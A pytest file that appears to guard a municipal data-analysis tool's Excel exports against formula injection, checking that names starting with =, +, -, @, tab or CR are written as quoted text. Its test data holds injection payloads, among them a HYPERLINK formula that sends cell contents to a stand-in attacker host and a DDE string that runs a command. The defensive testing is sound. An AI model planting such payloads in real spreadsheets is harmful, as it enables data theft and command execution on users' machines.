"""Issue 12, item 6: no text we write to a workbook becomes a live formula.

A förvaltning (or any name) starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR is a
formula to Excel. ``analysis export`` and the report workbooks must write it as a text
cell (type ``s``, no ``<f>`` element in the sheet XML) with Excel's quote prefix.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import nbformat
import openpyxl
import pandas as pd
import pytest

from analysis.batch.export import EXPORT_FORMATS, export_workbook, write_workbook
from analysis.batch.publish import export_xlsx
from analysis.io.dataset import load_data
from analysis.rapport.tables import TABLE_MIMETYPE

ATTACKS = [
    '=HYPERLINK("http://angripare.example/?"&A1,"Klicka")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _formulas(path: Path) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(path) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)
        ]


def _assert_text_cells(path: Path, sheet: str | None = None) -> int:
    wb = openpyxl.load_workbook(path)
    found = 0
    for ws in [wb[sheet]] if sheet else wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip("\t\r\n")[:1] in "=+-@":
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
                    found += 1
    return found


def test_write_workbook_writes_formula_like_text_as_text(tmp_path):
    frame = pd.DataFrame({"forvaltning": ATTACKS, "procent": [1.5] * len(ATTACKS)})
    out = write_workbook(
        {"sjukfranvaro": frame}, tmp_path / "x.xlsx", {"sjukfranvaro": {"procent": "0.00"}}
    )
    assert _formulas(out) == []
    assert _assert_text_cells(out) == len(ATTACKS)
    values = [c.value for c in openpyxl.load_workbook(out)["sjukfranvaro"]["A"][1:]]
    # the text itself is kept (an XML parser without lxml reads a stored CR back as LF;
    # with lxml, as python-docx brings it, the CR comes back as it is)
    assert len(values) == len(ATTACKS)
    for value, attack in zip(values, ATTACKS, strict=True):
        assert value in (attack, attack.replace("\r", "\n"))


def test_analysis_export_of_a_forvaltning_named_like_a_formula(tiny, tmp_path, monkeypatch):
    import analysis.befolkning.prognos

    # The tiny kommun has too little population history for a projection; the
    # population sheet holds no names, so it is left empty here.
    monkeypatch.setattr(
        analysis.befolkning.prognos,
        "befolkning_sheet",
        lambda *a, **k: pd.DataFrame({"ar": [2022], "typ": ["utfall"]}),
    )
    raw = tiny / "raw"
    name = '=HYPERLINK("http://angripare.example","Socialförvaltningen")'
    org = raw / "organisation.csv"
    org.write_text(
        org.read_text(encoding="utf-8").replace(
            ";Socialförvaltningen;", f';"{name.replace(chr(34), chr(34) * 2)}";'
        ),
        encoding="utf-8",
    )
    pers = raw / "personal" / "sjukfranvaro.csv"
    pers.write_text(
        pers.read_text(encoding="utf-8").replace(
            ";Socialförvaltningen;", f';"{name.replace(chr(34), chr(34) * 2)}";'
        ),
        encoding="utf-8",
    )
    data = load_data(tiny)
    assert name in data.register.forvaltningar
    out = export_workbook(data, "2023-04", tmp_path / "export.xlsx")
    assert _formulas(out) == []
    assert _assert_text_cells(out, "sjukfranvaro") >= 1
    sheet = openpyxl.load_workbook(out)["sjukfranvaro"]
    assert name in [c.value for c in sheet["A"]]
    assert EXPORT_FORMATS["sjukfranvaro"]  # numbers keep their formats
    assert isinstance(sheet["D2"].value, (int, float)) or sheet["D2"].value is None


@pytest.mark.parametrize("text", ATTACKS)
def test_report_workbook_cells_get_the_quote_prefix(tmp_path, text):
    nb = nbformat.v4.new_notebook()
    payload = {
        "name": "Tabell",
        "title": text,
        "columns": ["namn", "belopp"],
        "rows": [[text, 1.0]],
        "decimals": {"belopp": 1},
    }
    cell = nbformat.v4.new_code_cell("")
    cell.outputs = [nbformat.v4.new_output("display_data", data={TABLE_MIMETYPE: payload})]
    nb.cells.append(cell)
    out = export_xlsx(
        nb, tmp_path / "r.xlsx", {"kommun": "Exempelby", "titel": text, "period": "2023-04"}
    )
    assert _formulas(out) == []
    assert _assert_text_cells(out) >= 2
